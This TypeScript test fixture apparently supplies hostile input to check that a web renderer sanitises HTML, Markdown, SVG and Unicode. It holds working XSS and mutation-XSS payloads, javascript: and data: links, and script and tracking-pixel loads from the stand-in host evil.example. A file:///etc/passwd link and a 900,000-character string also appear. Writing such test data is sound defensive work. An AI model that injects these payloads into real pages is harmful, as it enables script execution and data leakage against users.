/** What every payload tries: to leave a mark in the window, to open a dialog, or to reach this host. */
export const MARK = 'window.top.pwned=1';
export const FOREIGN = 'evil.example';

const HTML = [
  `<img src=x onerror="${MARK}"><img src="https://${FOREIGN}/pixel.png" srcset="https://${FOREIGN}/2x.png 2x">`,
  `<script>${MARK}</script><script src="https://${FOREIGN}/x.js"></script><svg onload="${MARK}"><script>${MARK}</script></svg>`,
  `<svg><animate onbegin="${MARK}" attributeName=x dur=1s></svg><details open ontoggle="${MARK}">x</details>`,
  `<iframe src="javascript:${MARK}"></iframe><iframe srcdoc="<script>${MARK}</script>"></iframe><object data="https://${FOREIGN}/o"></object>`,
  `<embed src="https://${FOREIGN}/e"><video poster="https://${FOREIGN}/v"></video><audio src="https://${FOREIGN}/a" autoplay></audio>`,
  `<style>@import url(https://${FOREIGN}/s.css);body{display:none!important}</style><link rel=stylesheet href="https://${FOREIGN}/l.css">`,
  `<base href="https://${FOREIGN}/"><meta http-equiv=refresh content="0;url=https://${FOREIGN}/m">`,
  `<form action="https://${FOREIGN}/f"><input autofocus onfocus="${MARK}"><button formaction="javascript:${MARK}">x</button></form>`,
  // Mutation: what a parser that is asked twice reads differently.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${MARK}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript><template><img src=x onerror=${MARK}></template>`,
  `"><img src=x onerror=${MARK}> '-${MARK}-' \`\${${MARK}}\` {{constructor.constructor('${MARK}')()}} </title></textarea><script>${MARK}</script>`,
];

const MARKDOWN = [
  `![tracker](https://${FOREIGN}/pixel.png) ![ref][pixel] ![own](/api/v1/agents) ![data](data:image/svg+xml,<svg onload="${MARK}"/>)`,
  '![kept](artifacts/x.png) ![kept](artifacts/x.svg) ![up](artifacts/../../../agents) ![theirs](../exe_other/artifacts/x.png)',
  `[js](javascript:${MARK}) [case](JaVaScRiPt:${MARK}) [entity](&#106;avascript:${MARK}) [colon](javascript&colon;${MARK}) [tab](java&#9;script:${MARK})`,
  `[data](data:text/html,<script>${MARK}</script>) [vb](vbscript:${MARK}) [blob](blob:https://${FOREIGN}/1) [file](file:///etc/passwd)`,
  `[ours](/api/v1/agents) [relative](//${FOREIGN}/r) [title](https://${FOREIGN}/t "\\" onmouseover=${MARK}")`,
  `[https://example.com](https://example.com@${FOREIGN}/spoof) <https://${FOREIGN}/auto> www.${FOREIGN} a@${FOREIGN} <javascript:${MARK}>`,
  `| head [h](javascript:${MARK}) | ![c](https://${FOREIGN}/cell.png) |\n| --- | --- |\n| <img src=x onerror=${MARK}> | [cell](https://${FOREIGN}/cell) |`,
  `Note[^1] and code \`<img src=x onerror=${MARK}>\`\n\n[^1]: [foot](javascript:${MARK}) ![foot](https://${FOREIGN}/foot.png)`,
  `\`\`\`html\n<script>${MARK}</script>\n\`\`\`\n\n- [ ] <input onfocus=${MARK} autofocus>\n- [x] done`,
  `[pixel]: https://${FOREIGN}/ref.png "${MARK}"`,
];

/** Characters that hide, turn round or heap up. */
const UNICODE =
  '\u202eexe.gpj\u202c \u2066\u202d\u2069 a\u200bb\u200c\u200d\ufeff \u001b[31mred\u001b[0m Z\u0351\u036b\u0343\u0362 \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ufdfd';

/** A long text with every payload: for whatever takes text of any form. */
export const NASTY_TEXT = [...HTML, ...MARKDOWN, UNICODE, 'the end of it'].join('\n\n');

/** The same on one line and short, for names. Each begins with a word of its own, by which a test finds it. */
export const NASTY_NAMES = [
  `onerror1 <img src=x onerror=${MARK}><script>${MARK}</script>`,
  `onerror2 "><svg onload=${MARK}> [x](javascript:${MARK})`,
  `onerror3 \u202egnp.exe\u202c ![x](https://${FOREIGN}/n.png) {{7*7}}`,
] as const;

/** No place to break, and nearly as long as a request may be. */
export const LONG_WORD = 'W'.repeat(900_000);

/** A picture that is a program. */
export const NASTY_SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"><script>${MARK}</script><image href="https://${FOREIGN}/i.png"/></svg>`;
